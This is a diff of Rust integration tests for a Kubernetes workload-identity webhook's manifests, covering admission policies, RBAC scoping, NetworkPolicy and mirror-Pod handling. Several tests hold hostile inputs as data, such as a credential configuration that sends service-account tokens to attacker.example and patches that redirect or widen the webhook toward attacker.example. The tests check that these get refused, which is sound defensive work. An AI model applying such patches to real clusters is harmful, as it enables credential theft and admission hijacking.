@@ -1,11 +1,22 @@
 //! Every overlay under manifests/ is rendered with `kubectl kustomize` and applied server-side to
-//! a real kube-apiserver, so a manifest the API would refuse fails the suite.
+//! a real kube-apiserver, so a manifest the API would refuse fails the suite; then what the
+//! manifests promise (admission policies, RBAC, matchConditions, priority) is exercised there.
+//!
+//! The shipped MutatingWebhookConfiguration points at a Service whose ClusterIP is not on this
+//! machine: the API server must never call it. Every Pod these tests create is therefore labelled
+//! `workload-identity.dev/inject: disabled` (its objectSelector), and none is created elsewhere.
 
 #[path = "support/control_plane.rs"]
 mod control_plane;
+#[path = "support/webhook.rs"]
+mod webhook;
 
 use std::io::Write;
 use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
 
 /// cert-manager's kinds, as bare CRDs: enough for the apiserver to accept the overlay's objects
 /// (their schema is cert-manager's business, and cert-manager is not part of this control plane).
@@ -31,61 +42,76 @@ spec:
     - {name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}
 "#;
 
-fn kubectl(kubeconfig: &str, args: &[&str], stdin: Option<&str>) -> (bool, String) {
-    let mut child = Command::new("kubectl")
-        .env("KUBECONFIG", kubeconfig)
-        .args(args)
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .expect("kubectl is needed to render the Kustomize overlays");
-    if let Some(text) = stdin {
-        child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
-    }
-    drop(child.stdin.take());
-    let output = child.wait_with_output().unwrap();
-    let text = format!(
-        "{}{}",
-        String::from_utf8_lossy(&output.stdout),
-        String::from_utf8_lossy(&output.stderr)
-    );
-    (output.status.success(), text)
+const SYSTEM_NAMESPACE: &str = "workload-identity-system";
+const WEBHOOK_USER: &str = "system:serviceaccount:workload-identity-system:workload-identity-webhook";
+const GOOGLE_ANNOTATION: &str = "cloud.google.com/external-credentials-json";
+
+/// Tests that apply overlays take this lock: the overlays write the same objects differently.
+static CLUSTER: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
+
+struct Kubectl {
+    kubeconfig: String,
 }
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn every_overlay_is_accepted_by_the_apiserver() {
-    let cp = control_plane::shared().await;
-    let kubeconfig = cp.kubeconfig_path().to_str().unwrap().to_owned();
-    let (ok, out) = kubectl(
-        &kubeconfig,
-        &["apply", "--server-side", "-f", "-"],
-        Some(CERT_MANAGER_CRDS),
-    );
-    assert!(ok, "{out}");
-    let (ok, out) = kubectl(
-        &kubeconfig,
-        &[
-            "wait",
-            "--for=condition=Established",
-            "crd/issuers.cert-manager.io",
-            "crd/certificates.cert-manager.io",
-            "--timeout=60s",
-        ],
-        None,
-    );
-    assert!(ok, "{out}");
+struct Run {
+    ok: bool,
+    stdout: String,
+    /// stdout and stderr together, for messages.
+    text: String,
+}
 
-    let root = env!("CARGO_MANIFEST_DIR");
-    for overlay in ["cluster-wide", "namespace-opt-in", "cert-manager"] {
-        let (ok, rendered) = kubectl(
-            &kubeconfig,
-            &["kustomize", &format!("{root}/manifests/overlays/{overlay}")],
-            None,
-        );
-        assert!(ok, "{overlay} does not render: {rendered}");
-        let (ok, out) = kubectl(
-            &kubeconfig,
+impl Kubectl {
+    async fn new() -> Kubectl {
+        let cp = control_plane::shared().await;
+        Kubectl {
+            kubeconfig: cp.kubeconfig_path().to_str().unwrap().to_owned(),
+        }
+    }
+
+    fn run(&self, args: &[&str], stdin: Option<&str>) -> Run {
+        let mut child = Command::new("kubectl")
+            .env("KUBECONFIG", &self.kubeconfig)
+            .args(args)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("kubectl is needed to render the Kustomize overlays");
+        if let Some(text) = stdin {
+            child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
+        }
+        drop(child.stdin.take());
+        let output = child.wait_with_output().unwrap();
+        let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+        let text = format!("{stdout}{}", String::from_utf8_lossy(&output.stderr));
+        Run {
+            ok: output.status.success(),
+            stdout,
+            text,
+        }
+    }
+
+    /// Runs kubectl and fails the test unless it succeeds; returns its output.
+    fn ok(&self, args: &[&str], stdin: Option<&str>) -> String {
+        let run = self.run(args, stdin);
+        assert!(run.ok, "kubectl {args:?} failed:\n{}", run.text);
+        run.stdout
+    }
+
+    fn json(&self, args: &[&str]) -> Value {
+        let mut args = args.to_vec();
+        args.extend(["-o", "json"]);
+        serde_json::from_str(&self.ok(&args, None)).unwrap()
+    }
+
+    /// Renders a kustomization (path relative to the repository) and applies it server-side;
+    /// fails unless the API server takes every object.
+    fn apply_kustomization(&self, dir: &str) -> String {
+        let root = env!("CARGO_MANIFEST_DIR");
+        let rendered = self.run(&["kustomize", &format!("{root}/{dir}")], None);
+        assert!(rendered.ok, "{dir} does not render: {}", rendered.text);
+        let rendered = rendered.stdout;
+        let out = self.ok(
             &[
                 "apply",
                 "--server-side",
@@ -96,17 +122,137 @@ async fn every_overlay_is_accepted_by_the_apiserver() {
             ],
             Some(&rendered),
         );
-        assert!(ok, "{overlay} refused by the apiserver:\n{out}");
         let objects = rendered.matches("\nkind: ").count() + usize::from(rendered.starts_with("kind: "));
         let applied = out.lines().filter(|line| line.contains("serverside-applied")).count();
-        assert_eq!(applied, objects, "{overlay}: every object applied\n{out}");
+        assert_eq!(applied, objects, "{dir}: every object applied\n{out}");
+        rendered
+    }
+
+    /// cert-manager's kinds, which the cert-manager overlay needs.
+    fn install_cert_manager_crds(&self) {
+        self.ok(&["apply", "--server-side", "-f", "-"], Some(CERT_MANAGER_CRDS));
+        self.ok(
+            &[
+                "wait",
+                "--for=condition=Established",
+                "crd/issuers.cert-manager.io",
+                "crd/certificates.cert-manager.io",
+                "--timeout=60s",
+            ],
+            None,
+        );
+    }
+
+    fn apply_overlay(&self, overlay: &str) -> String {
+        self.apply_kustomization(&format!("manifests/overlays/{overlay}"))
+    }
+
+    /// `kubectl auth can-i` as `user`, retried until it gives `expected` (RBAC is read from a cache).
+    fn wait_can_i(&self, user: &str, verb: &str, resource: &str, namespace: &str, expected: bool) {
+        eventually(&format!("{user} can {verb} {resource}: {expected}"), || {
+            let run = self.run(&["auth", "can-i", verb, resource, "-n", namespace, "--as", user], None);
+            (run.stdout.trim() == "yes") == expected
+        });
+    }
+}
+
+/// Polls `check` every 200 ms until it is true, failing after 60 s.
+fn eventually(what: &str, mut check: impl FnMut() -> bool) {
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while !check() {
+        assert!(Instant::now() < deadline, "timed out waiting for {what}");
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+fn unique(prefix: &str) -> String {
+    static COUNTER: AtomicU32 = AtomicU32::new(0);
+    format!(
+        "{prefix}-{}-{}",
+        std::process::id(),
+        COUNTER.fetch_add(1, Ordering::Relaxed)
+    )
+}
+
+fn create_namespace(kubectl: &Kubectl, name: &str) {
+    kubectl.ok(&["create", "namespace", name], None);
+}
+
+/// A Pod the shipped MutatingWebhookConfiguration never sees (see the top of this file).
+fn pod(name: &str, annotations: Value) -> Value {
+    json!({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": name, "labels": {"workload-identity.dev/inject": "disabled"}, "annotations": annotations},
+        "spec": {"containers": [{"name": "app", "image": "registry.example/app:1"}]}
+    })
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_overlay_is_accepted_by_the_apiserver() {
+    let kubectl = Kubectl::new().await;
+    let _cluster = CLUSTER.lock().await;
+    kubectl.install_cert_manager_crds();
+
+    // A user's kustomization with the optional NetworkPolicy component, its CIDR and monitoring
+    // namespace set.
+    kubectl.apply_kustomization("tests/kustomize/network-policy");
+    let policy = kubectl.json(&[
+        "-n",
+        SYSTEM_NAMESPACE,
+        "get",
+        "networkpolicy",
+        "workload-identity-webhook",
+    ]);
+    let spec = &policy["spec"];
+    assert_eq!(spec["policyTypes"], json!(["Ingress"]), "{policy}");
+    assert_eq!(
+        spec["podSelector"]["matchLabels"]["app.kubernetes.io/component"],
+        "webhook"
+    );
+    let admission = &spec["ingress"][0];
+    assert_eq!(
+        admission["ports"],
+        json!([{"port": "https", "protocol": "TCP"}]),
+        "{policy}"
+    );
+    assert_eq!(
+        admission["from"][0],
+        json!({"ipBlock": {"cidr": "10.0.0.0/28"}}),
+        "{policy}"
+    );
+    let metrics = &spec["ingress"][1];
+    assert_eq!(
+        metrics["ports"],
+        json!([{"port": "metrics", "protocol": "TCP"}]),
+        "{policy}"
+    );
+    assert_eq!(
+        metrics["from"],
+        json!([{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "observability"}}}]),
+        "{policy}"
+    );
+    assert_eq!(spec["ingress"].as_array().unwrap().len(), 2, "{policy}");
+
+    for overlay in ["cluster-wide", "namespace-opt-in", "cert-manager"] {
+        let rendered = kubectl.apply_overlay(overlay);
+        // Every overlay ships the admission policies and their bindings.
+        for policy in [
+            "workload-identity-webhook-google-credential-configuration",
+            "workload-identity-webhook-cabundle-only",
+            "workload-identity-webhook-own-secret-only",
+        ] {
+            assert_eq!(
+                rendered.matches(&format!("name: {policy}\n")).count(),
+                2,
+                "{overlay}: {policy}"
+            );
+        }
     }
     // What the last overlay left: the cert-manager install serves the mounted certificate.
-    let (ok, args) = kubectl(
-        &kubeconfig,
+    let args = kubectl.ok(
         &[
             "-n",
-            "workload-identity-system",
+            SYSTEM_NAMESPACE,
             "get",
             "deployment",
             "workload-identity-webhook",
@@ -115,9 +261,504 @@ async fn every_overlay_is_accepted_by_the_apiserver() {
         ],
         None,
     );
-    assert!(ok, "{args}");
     assert!(
         args.contains("--tls-cert-file=/tls/tls.crt") && !args.contains("--manage-certificate"),
         "{args}"
     );
+}
+
+/// H2: someone allowed only `get` and `patch` on Pods cannot change, remove or add the Google
+/// credential configuration of a Pod, and can still edit its other annotations.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_google_credential_configuration_cannot_be_changed_after_creation() {
+    let kubectl = Kubectl::new().await;
+    {
+        let _cluster = CLUSTER.lock().await;
+        kubectl.apply_overlay("cluster-wide");
+    }
+    let namespace = unique("google");
+    create_namespace(&kubectl, &namespace);
+    let ns = namespace.as_str();
+    kubectl.ok(
+        &[
+            "-n",
+            ns,
+            "create",
+            "role",
+            "pod-patcher",
+            "--verb=get,patch",
+            "--resource=pods",
+        ],
+        None,
+    );
+    kubectl.ok(
+        &[
+            "-n",
+            ns,
+            "create",
+            "rolebinding",
+            "ci-bot",
+            "--role=pod-patcher",
+            "--user=ci-bot",
+        ],
+        None,
+    );
+    kubectl.wait_can_i("ci-bot", "patch", "pods", ns, true);
+    kubectl.wait_can_i("ci-bot", "update", "pods", ns, false);
+
+    let configuration = r#"{"type":"external_account","token_url":"https://sts.googleapis.com/v1/token","credential_source":{"file":"/var/run/secrets/gcp/token"}}"#;
+    kubectl.ok(
+        &["-n", ns, "create", "-f", "-"],
+        Some(&pod("google", json!({GOOGLE_ANNOTATION: configuration})).to_string()),
+    );
+    kubectl.ok(
+        &["-n", ns, "create", "-f", "-"],
+        Some(&pod("plain", json!({"team": "a"})).to_string()),
+    );
+
+    let patch = |name: &str, kind: &str, body: Value, dry_run: bool| {
+        let body = body.to_string();
+        let mut args = vec![
+            "-n",
+            ns,
+            "--as=ci-bot",
+            "patch",
+            "pod",
+            name,
+            "--type",
+            kind,
+            "-p",
+            &body,
+        ];
+        if dry_run {
+            args.push("--dry-run=server");
+        }
+        kubectl.run(&args, None)
+    };
+    let hostile = r#"{"type":"external_account","token_url":"https://attacker.example/token","credential_source":{"file":"/var/run/secrets/kubernetes.io/serviceaccount/token"}}"#;
+    let change = json!({"metadata": {"annotations": {GOOGLE_ANNOTATION: hostile}}});
+    // The API server loads policies asynchronously; dry runs go through admission and store nothing.
+    eventually("the policy to be enforced", || {
+        !patch("google", "merge", change.clone(), true).ok
+    });
+
+    let refused = |run: Run, what: &str| {
+        assert!(!run.ok, "{what} was allowed:\n{}", run.text);
+        assert!(
+            run.text
+                .contains("workload-identity-webhook-google-credential-configuration")
+                && run.text.contains("fixed when the Pod is created"),
+            "{what}: {}",
+            run.text
+        );
+    };
+    refused(patch("google", "merge", change, false), "changing the annotation");
+    refused(
+        patch(
+            "google",
+            "merge",
+            json!({"metadata": {"annotations": {GOOGLE_ANNOTATION: null}}}),
+            false,
+        ),
+        "removing the annotation",
+    );
+    refused(
+        patch(
+            "google",
+            "json",
+            json!([{"op": "remove", "path": "/metadata/annotations"}]),
+            false,
+        ),
+        "removing every annotation",
+    );
+    refused(
+        patch(
+            "plain",
+            "merge",
+            json!({"metadata": {"annotations": {GOOGLE_ANNOTATION: hostile}}}),
+            false,
+        ),
+        "adding the annotation",
+    );
+
+    // Other edits still go through, on Pods with and without the annotation.
+    let other = json!({"metadata": {"annotations": {"ci.example/run": "42"}, "labels": {"stage": "test"}}});
+    let run = patch("google", "merge", other.clone(), false);
+    assert!(run.ok, "{}", run.text);
+    let run = patch("plain", "merge", other, false);
+    assert!(run.ok, "{}", run.text);
+    let google = kubectl.json(&["-n", ns, "get", "pod", "google"]);
+    assert_eq!(google["metadata"]["annotations"][GOOGLE_ANNOTATION], configuration);
+    assert_eq!(google["metadata"]["annotations"]["ci.example/run"], "42");
+    let plain = kubectl.json(&["-n", ns, "get", "pod", "plain"]);
+    assert_eq!(
+        plain["metadata"]["annotations"],
+        json!({"team": "a", "ci.example/run": "42"})
+    );
+
+    // The policy binds everyone, cluster administrators included, and every subresource that
+    // writes a whole Pod.
+    let run = kubectl.run(
+        &[
+            "-n",
+            ns,
+            "annotate",
+            "--overwrite",
+            "pod",
+            "google",
+            &format!("{GOOGLE_ANNOTATION}={hostile}"),
+        ],
+        None,
+    );
+    assert!(!run.ok, "{}", run.text);
+    let run = kubectl.run(
+        &[
+            "-n",
+            ns,
+            "patch",
+            "pod",
+            "google",
+            "--subresource=status",
+            "--type=merge",
+            "-p",
+            &json!({"metadata": {"annotations": {GOOGLE_ANNOTATION: hostile}}}).to_string(),
+        ],
+        None,
+    );
+    let google = kubectl.json(&["-n", ns, "get", "pod", "google"]);
+    assert_eq!(
+        google["metadata"]["annotations"][GOOGLE_ANNOTATION], configuration,
+        "{}",
+        run.text
+    );
+}
+
+/// M4: the webhook's ServiceAccount may publish its caBundle and create its certificate Secret,
+/// nothing more; and only the self-managed installs give it those rights at all.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_webhook_may_change_only_its_ca_bundle_and_only_when_it_manages_its_certificate() {
+    let kubectl = Kubectl::new().await;
+    let _cluster = CLUSTER.lock().await;
+    let as_webhook = format!("--as={WEBHOOK_USER}");
+
+    // A mounted certificate (cert-manager or your own): no Secret writes, no webhook patch.
+    // Server-side apply does not prune, so first remove what an earlier overlay left.
+    kubectl.install_cert_manager_crds();
+    kubectl.apply_overlay("cert-manager");
+    kubectl.ok(
+        &[
+            "delete",
+            "-n",
+            SYSTEM_NAMESPACE,
+            "role,rolebinding",
+            "workload-identity-webhook-tls",
+            "--ignore-not-found",
+        ],
+        None,
+    );
+    kubectl.ok(
+        &[
+            "delete",
+            "clusterrole,clusterrolebinding",
+            "workload-identity-webhook-cabundle",
+            "--ignore-not-found",
+        ],
+        None,
+    );
+    kubectl.apply_overlay("cert-manager");
+    let configuration = "mutatingwebhookconfigurations/workload-identity-webhook";
+    let secret = "secrets/workload-identity-webhook-tls";
+    kubectl.wait_can_i(
+        WEBHOOK_USER,
+        "get",
+        "configmaps/workload-identity-webhook",
+        SYSTEM_NAMESPACE,
+        true,
+    );
+    for (verb, resource) in [
+        ("patch", configuration),
+        ("get", configuration),
+        ("create", "secrets"),
+        ("update", secret),
+        ("get", secret),
+    ] {
+        kubectl.wait_can_i(WEBHOOK_USER, verb, resource, SYSTEM_NAMESPACE, false);
+    }
+
+    // Self-managed (the default): exactly the rights of the certificate loop.
+    kubectl.apply_overlay("cluster-wide");
+    for (verb, resource) in [
+        ("patch", configuration),
+        ("get", configuration),
+        ("create", "secrets"),
+        ("update", secret),
+        ("get", secret),
+    ] {
+        kubectl.wait_can_i(WEBHOOK_USER, verb, resource, SYSTEM_NAMESPACE, true);
+    }
+    kubectl.wait_can_i(WEBHOOK_USER, "update", configuration, SYSTEM_NAMESPACE, false);
+    kubectl.wait_can_i(WEBHOOK_USER, "delete", configuration, SYSTEM_NAMESPACE, false);
+
+    let patch = |kind: &str, body: &Value, user: Option<&str>| {
+        let body = body.to_string();
+        let mut args = vec!["patch", configuration, "--type", kind, "-p", &body];
+        args.extend(user);
+        kubectl.run(&args, None)
+    };
+    // What the webhook sends (src/certificates.rs): a strategic merge patch of each caBundle.
+    let bundle = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==";
+    let publish = json!({"webhooks": [
+        {"name": "pods.workload-identity.dev", "clientConfig": {"caBundle": bundle}},
+        {"name": "serviceaccounts.workload-identity.dev", "clientConfig": {"caBundle": bundle}},
+    ]});
+    let widen_failure_policy = json!([{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]);
+    eventually("the policy to be enforced", || {
+        !patch("json", &widen_failure_policy, Some(&as_webhook)).ok
+    });
+    let run = patch("strategic", &publish, Some(&as_webhook));
+    assert!(run.ok, "publishing the caBundle was refused:\n{}", run.text);
+    let stored = kubectl.json(&["get", configuration]);
+    for webhook in stored["webhooks"].as_array().unwrap() {
+        assert_eq!(webhook["clientConfig"]["caBundle"], bundle, "{stored}");
+    }
+
+    let widenings = [
+        widen_failure_policy.clone(),
+        json!([{"op": "replace", "path": "/webhooks/0/namespaceSelector", "value": {}}]),
+        json!([{"op": "replace", "path": "/webhooks/0/objectSelector", "value": {}}]),
+        json!([{"op": "remove", "path": "/webhooks/0/matchConditions"}]),
+        json!([{"op": "replace", "path": "/webhooks/0/rules/0/operations", "value": ["*"]}]),
+        json!([{"op": "replace", "path": "/webhooks/0/rules/0/resources", "value": ["*"]}]),
+        json!([{"op": "replace", "path": "/webhooks/1/timeoutSeconds", "value": 30}]),
+        json!([{"op": "replace", "path": "/webhooks/1/reinvocationPolicy", "value": "Never"}]),
+        json!([{"op": "replace", "path": "/webhooks/0/clientConfig/service/name", "value": "elsewhere"}]),
+        json!([{"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://attacker.example/mutate", "caBundle": bundle}}]),
+        json!([{"op": "add", "path": "/webhooks/-", "value": {
+            "name": "more.workload-identity.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None",
+            "clientConfig": {"url": "https://attacker.example/mutate"},
+            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}]}}]),
+        json!([{"op": "remove", "path": "/webhooks/1"}]),
+        json!([{"op": "add", "path": "/metadata/labels/extra", "value": "x"}]),
+        json!([{"op": "add", "path": "/metadata/finalizers", "value": ["example.com/keep"]}]),
+    ];
+    for widening in &widenings {
+        let run = patch("json", widening, Some(&as_webhook));
+        assert!(!run.ok, "the webhook could apply {widening}");
+        assert!(
+            run.text.contains("workload-identity-webhook-cabundle-only"),
+            "{widening}: {}",
+            run.text
+        );
+    }
+    assert_eq!(kubectl.json(&["get", configuration])["webhooks"], stored["webhooks"]);
+    // Only the webhook's ServiceAccount is held to this: an administrator can still switch to Fail.
+    let run = patch("json", &widen_failure_policy, None);
+    assert!(run.ok, "{}", run.text);
+    kubectl.apply_overlay("cluster-wide");
+
+    // Secrets: only its own certificate Secret, and never a ServiceAccount token.
+    let create_secret = |name: &str, kind: &str| {
+        let secret = json!({"apiVersion": "v1", "kind": "Secret", "type": kind,
+            "metadata": {"name": name, "namespace": SYSTEM_NAMESPACE, "annotations": {"kubernetes.io/service-account.name": "default"}}});
+        kubectl.run(
+            &["create", "--dry-run=server", &as_webhook, "-f", "-"],
+            Some(&secret.to_string()),
+        )
+    };
+    eventually("the Secret policy to be enforced", || {
+        !create_secret("other", "Opaque").ok
+    });
+    let run = create_secret("workload-identity-webhook-tls", "Opaque");
+    assert!(run.ok, "{}", run.text);
+    for (name, kind) in [
+        ("other", "Opaque"),
+        ("workload-identity-webhook-tls", "kubernetes.io/service-account-token"),
+        ("default-token", "kubernetes.io/service-account-token"),
+    ] {
+        let run = create_secret(name, kind);
+        assert!(!run.ok, "the webhook could create the {kind} Secret {name}");
+        assert!(
+            run.text.contains("workload-identity-webhook-own-secret-only"),
+            "{}",
+            run.text
+        );
+    }
+}
+
+/// L9: a mirror Pod (a static Pod's copy in the API) is never sent to the webhook. The webhook
+/// configuration below is the shipped `pods` entry pointing at a closed port with `Fail`, so a
+/// Pod that is sent is refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn mirror_pods_are_not_sent_to_the_webhook() {
+    let kubectl = Kubectl::new().await;
+    let mut shipped = {
+        let _cluster = CLUSTER.lock().await;
+        kubectl.apply_overlay("cluster-wide");
+        kubectl.json(&["get", "mutatingwebhookconfiguration", "workload-identity-webhook"])
+    };
+    let namespace = unique("mirror");
+    create_namespace(&kubectl, &namespace);
+    let closed_port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let mut webhook = shipped["webhooks"]
+        .as_array_mut()
+        .unwrap()
+        .iter_mut()
+        .find(|webhook| webhook["name"] == "pods.workload-identity.dev")
+        .unwrap()
+        .take();
+    webhook["clientConfig"] = json!({"url": format!("https://127.0.0.1:{closed_port}/mutate")});
+    webhook["failurePolicy"] = json!("Fail");
+    webhook["namespaceSelector"] = json!({"matchLabels": {"kubernetes.io/metadata.name": namespace}});
+    webhook["objectSelector"] = json!({});
+    let name = unique("wiw-mirror");
+    let configuration = json!({
+        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
+        "metadata": {"name": name}, "webhooks": [webhook],
+    });
+    kubectl.ok(&["create", "-f", "-"], Some(&configuration.to_string()));
+
+    let ns = namespace.as_str();
+    let create = |name: &str, annotations: Value, dry_run: bool| {
+        let mut args = vec!["-n", ns, "create", "-f", "-"];
+        if dry_run {
+            args.push("--dry-run=server");
+        }
+        // A mirror Pod names its node; the ordinary one does too, so that only the annotation differs.
+        let mut pod = pod(name, annotations);
+        pod["spec"]["nodeName"] = json!("node-1");
+        kubectl.run(&args, Some(&pod.to_string()))
+    };
+    eventually("the API server to call the webhook", || {
+        create("probe", json!({}), true).text.contains("failed calling webhook")
+    });
+    let mirror = json!({"kubernetes.io/config.mirror": "0123456789abcdef", "kubernetes.io/config.source": "file"});
+    let run = create("static", mirror.clone(), false);
+    assert!(run.ok, "a mirror Pod was sent to the webhook:\n{}", run.text);
+    let stored = kubectl.json(&["-n", ns, "get", "pod", "static"]);
+    assert_eq!(stored["metadata"]["annotations"], mirror);
+    let run = create("ordinary", json!({"kubernetes.io/config.source": "file"}), false);
+    assert!(!run.ok && run.text.contains("failed calling webhook"), "{}", run.text);
+    kubectl.ok(&["delete", "mutatingwebhookconfiguration", &name], None);
+}
+
+/// The webhook Pods run at system-cluster-critical, and the namespace's ResourceQuota admits them
+/// where critical priorities are limited to quota (this control plane is configured as GKE is).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_webhook_pods_are_system_cluster_critical() {
+    let kubectl = Kubectl::new().await;
+    let _cluster = CLUSTER.lock().await;
+    kubectl.apply_overlay("cluster-wide");
+    let deployment = kubectl.json(&["-n", SYSTEM_NAMESPACE, "get", "deployment", "workload-identity-webhook"]);
+    // A Pod from the Deployment's template, as the ReplicaSet controller would create it.
+    let template = &deployment["spec"]["template"];
+    let pod = json!({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"generateName": "workload-identity-webhook-", "namespace": SYSTEM_NAMESPACE, "labels": template["metadata"]["labels"]},
+        "spec": template["spec"],
+    })
+    .to_string();
+    let create = || kubectl.run(&["create", "--dry-run=server", "-o", "json", "-f", "-"], Some(&pod));
+    let quota = "resourcequota/workload-identity-webhook-critical-pods";
+
+    // Without the shipped quota such a cluster refuses the Pods.
+    kubectl.ok(&["-n", SYSTEM_NAMESPACE, "delete", "--ignore-not-found", quota], None);
+    let run = create();
+    assert!(
+        !run.ok && run.text.contains("insufficient quota to match these scopes"),
+        "{}",
+        run.text
+    );
+
+    kubectl.apply_overlay("cluster-wide");
+    let run = create();
+    assert!(run.ok, "{}", run.text);
+    let created: Value = serde_json::from_str(&run.stdout).unwrap();
+    assert_eq!(created["spec"]["priorityClassName"], "system-cluster-critical");
+    assert_eq!(created["spec"]["priority"], 2_000_000_000);
+}
+
+/// The shipped RBAC and policies are enough for the real webhook, run as its ServiceAccount: with
+/// a mounted certificate it becomes ready without any Secret or webhook-configuration right; with
+/// the self-managed one it creates its Secret and publishes its caBundle through the policies.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_webhook_runs_with_exactly_the_shipped_rights() {
+    let kubectl = Kubectl::new().await;
+    let _cluster = CLUSTER.lock().await;
+    // The admin kubeconfig, impersonating the webhook's ServiceAccount.
+    let mut config: Value = serde_json::from_str(&std::fs::read_to_string(&kubectl.kubeconfig).unwrap()).unwrap();
+    config["users"][0]["user"]["as"] = json!(WEBHOOK_USER);
+    let dir = tempfile::tempdir().unwrap();
+    let kubeconfig = dir.path().join("kubeconfig");
+    std::fs::write(&kubeconfig, config.to_string()).unwrap();
+    let kubeconfig = kubeconfig.to_str().unwrap();
+    let env = [("KUBECONFIG", kubeconfig)];
+    let namespace = format!("--namespace={SYSTEM_NAMESPACE}");
+    let no_refusal = |webhook: &webhook::Webhook| {
+        let log = webhook.log();
+        assert!(!log.to_lowercase().contains("forbidden"), "{log}");
+    };
+
+    kubectl.install_cert_manager_crds();
+    kubectl.ok(
+        &[
+            "delete",
+            "-n",
+            SYSTEM_NAMESPACE,
+            "role,rolebinding",
+            "workload-identity-webhook-tls",
+            "--ignore-not-found",
+        ],
+        None,
+    );
+    kubectl.ok(
+        &[
+            "delete",
+            "clusterrole,clusterrolebinding",
+            "workload-identity-webhook-cabundle",
+            "--ignore-not-found",
+        ],
+        None,
+    );
+    kubectl.apply_overlay("cert-manager");
+    kubectl.wait_can_i(WEBHOOK_USER, "create", "secrets", SYSTEM_NAMESPACE, false);
+    let mut mounted = webhook::Webhook::start(&[&namespace], &env, &[]);
+    mounted.wait_ready().await;
+    no_refusal(&mounted);
+    drop(mounted);
+
+    kubectl.apply_overlay("cluster-wide");
+    kubectl.wait_can_i(WEBHOOK_USER, "create", "secrets", SYSTEM_NAMESPACE, true);
+    kubectl.run(
+        &[
+            "-n",
+            SYSTEM_NAMESPACE,
+            "delete",
+            "secret",
+            "workload-identity-webhook-tls",
+            "--ignore-not-found",
+        ],
+        None,
+    );
+    let mut managed = webhook::Webhook::start(
+        &["--manage-certificate", "--certificate-san=127.0.0.1", &namespace],
+        &env,
+        &[],
+    );
+    managed.wait_ready().await;
+    let secret = kubectl.json(&["-n", SYSTEM_NAMESPACE, "get", "secret", "workload-identity-webhook-tls"]);
+    let bundle = &secret["data"]["ca-bundle.crt"];
+    assert!(bundle.is_string(), "{secret}");
+    eventually("the caBundle to be published", || {
+        let configuration = kubectl.json(&["get", "mutatingwebhookconfiguration", "workload-identity-webhook"]);
+        configuration["webhooks"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|webhook| &webhook["clientConfig"]["caBundle"] == bundle)
+    });
+    no_refusal(&managed);
 }
